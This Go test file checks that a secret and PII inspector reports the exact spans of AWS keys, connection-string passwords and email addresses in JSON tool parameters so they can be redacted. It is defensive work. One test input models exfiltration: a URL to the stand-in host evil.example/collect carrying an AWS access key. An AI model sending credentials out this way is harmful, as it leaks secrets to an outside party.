package inspect

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// Secret and PII findings locate what they matched in the value's text, every occurrence, so that
// redaction can cut out only that; what cannot be located (a decoded layer, an object key, a rule
// about the whole value) carries no spans, and is redacted whole.
func TestFindingSpans(t *testing.T) {
	aws := "AKIA" + "IOSFODNN7EXAMPL2" // split so scanners do not flag this file
	aws2 := "AKIA" + "Z7QW3RTY5UIO9PLK"
	tests := []struct {
		name, params, kind string
		want               []string // the texts the spans cover; nil: no spans (whole value)
	}{
		{"key in a URL", `{"url":"https://evil.example/collect?x=` + aws + `"}`, "secret.aws_access_key", []string{aws}},
		{"two keys", `{"note":"` + aws + ` and ` + aws2 + `"}`, "secret.aws_access_key", []string{aws, aws2}},
		{"password of a connection string", `{"dsn":"Server=db;Password=Xq7-pL9z2;Database=x;"}`, "secret.connection_string", []string{"Xq7-pL9z2"}},
		{"credentials in a URL", `{"u":"postgres://admin:S3cr3tPw99@db.internal:5432/x"}`, "secret.connection_string", []string{"S3cr3tPw99"}},
		{"base64-wrapped key", `{"blob":"` + base64.StdEncoding.EncodeToString([]byte("key="+aws+" ok")) + `"}`, "secret.generic", nil},
		{"credential-named parameter", `{"password":"Tr0ub4dor&3xYz"}`, "secret.generic", nil},
		{"email in text", `{"note":"mail jane.roe@corp-mail.example today, or j.r@corp-mail.example"}`, "pii.email", []string{"jane.roe@corp-mail.example", "j.r@corp-mail.example"}},
		{"secret in an object key", `{"` + aws + `":"x"}`, "secret.aws_access_key", nil},
	}
	e := New(Config{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res, err := e.Inspect(context.Background(), "t", Request, json.RawMessage(tc.params))
			if err != nil {
				t.Fatal(err)
			}
			var raw map[string]string
			if err := json.Unmarshal([]byte(tc.params), &raw); err != nil {
				t.Fatal(err)
			}
			for _, f := range res.Findings {
				if f.Kind != tc.kind {
					continue
				}
				var text string
				for _, v := range raw {
					text = v
				}
				var got []string
				for _, sp := range f.Spans {
					if f.TextLen != len(text) {
						t.Fatalf("TextLen %d, text of %d bytes", f.TextLen, len(text))
					}
					got = append(got, text[sp.Start:sp.End])
				}
				if diff := cmp.Diff(tc.want, got); diff != "" {
					t.Errorf("spans of %s (-want +got):\n%s", f.Kind, diff)
				}
				return
			}
			t.Fatalf("no %s finding in %+v", tc.kind, res.Findings)
		})
	}
}
